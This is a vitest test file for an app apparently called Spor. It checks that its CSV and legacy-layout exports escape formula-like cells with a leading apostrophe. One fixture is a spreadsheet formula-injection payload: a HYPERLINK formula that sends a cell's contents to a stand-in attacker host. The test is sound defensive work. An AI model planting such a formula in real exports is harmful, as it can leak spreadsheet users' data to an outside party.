import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { SporDatabase } from "@/lib/database/open";
import { parseCsv } from "@/lib/exchange/csv";
import { EXPORT_COLUMNS, exportRegistrationsStream } from "@/lib/exchange/export-registrations";
import { planImportQuestions } from "@/lib/exchange/import-questions";
import { commitImport, planImport } from "@/lib/exchange/import-rows";
import { LEGACY_COLUMNS, parseLegacyExport } from "@/lib/exchange/legacy-format";
import { createTestDatabase } from "@/tests/helpers/test-db";

// A unit named like a formula and an answer "+1" must come out escaped in both export layouts,
// never as text a spreadsheet would run (docs/formats.md, "Formula escaping").

const UNIT = '=HYPERLINK("http://angriber.test/?x="&A1;"Klik")';
const ANSWER = "+1";
const QUESTION = "@Kilde";
let database: SporDatabase;
let municipalityId: string;

async function readText(stream: ReadableStream<Uint8Array>, encoding: "utf8" | "latin1"): Promise<string> {
  const chunks: Uint8Array[] = [];
  const reader = stream.getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    chunks.push(value);
  }
  return Buffer.concat(chunks).toString(encoding);
}

beforeAll(async () => {
  database = await createTestDatabase();
  const municipality = await database.prisma.municipality.create({ data: { number: 259, name: "Køge" } });
  municipalityId = municipality.id;
  await database.prisma.unit.create({ data: { municipalityId, name: UNIT } });
  const plan = await planImport(database.prisma, municipalityId, [
    {
      line: 2,
      municipalityNumber: 259,
      unit: UNIT,
      taskNumber: "23.05.10",
      channelCode: "TLFIND",
      contactTypeCode: "INFO",
      closureCode: "STRAKS",
      form: null,
      occurredAt: new Date("2026-10-19T08:15:00Z"),
      startedAt: null,
      endedAt: null,
      quantity: 1,
      answers: { [QUESTION]: ANSWER },
    },
  ]);
  plan.questions = (await planImportQuestions(database.prisma, municipalityId, [QUESTION], plan.rows)).questions;
  expect(plan.errors).toEqual([]);
  await commitImport(database.prisma, plan, { actorUserId: null, kind: "LEGACY_IMPORT", source: "LEGACY_IMPORT", fileName: "x.csv" });
});
afterAll(() => database.close());

describe("exports escape formula-like text", () => {
  it("Spor's CSV: unit, answer and question heading start with an apostrophe", async () => {
    const rows = parseCsv(await readText(exportRegistrationsStream({ municipalityIds: [municipalityId] }, "csv"), "utf8"));
    expect(rows[0]).toEqual([...EXPORT_COLUMNS, `'${QUESTION}`]);
    expect(rows).toHaveLength(2);
    expect(rows[1][2]).toBe(`'${UNIT}`);
    expect(rows[1].at(-1)).toBe(`'${ANSWER}`);
  });

  it("the old layout: the same escaping, no cell starts with a formula character, and Spor reads it back as it was", async () => {
    const text = await readText(exportRegistrationsStream({ municipalityIds: [municipalityId] }, "legacy"), "latin1");
    const lines = text.split("\r\n").filter(Boolean);
    expect(lines).toHaveLength(2);
    const header = lines[0].split(";");
    expect(header.slice(0, LEGACY_COLUMNS.length)).toEqual([...LEGACY_COLUMNS]);
    expect(header[LEGACY_COLUMNS.length]).toBe(`'${QUESTION}`);
    const cells = lines[1].split(";");
    // The unit's ";" became a space (the layout has no quoting); then the apostrophe.
    expect(cells[2]).toBe(`'${UNIT.replace(";", " ")}`);
    expect(cells[LEGACY_COLUMNS.length]).toBe(`'${ANSWER}`);
    for (const cell of [...header, ...cells]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const parsed = await parseLegacyExport(Buffer.from(text, "latin1"));
    expect(parsed.errors).toEqual([]);
    expect(parsed.questions).toEqual([QUESTION]);
    expect(parsed.rows[0]).toMatchObject({ unitLogin: UNIT.replace(";", " "), answers: { [QUESTION]: ANSWER } });
  });
});
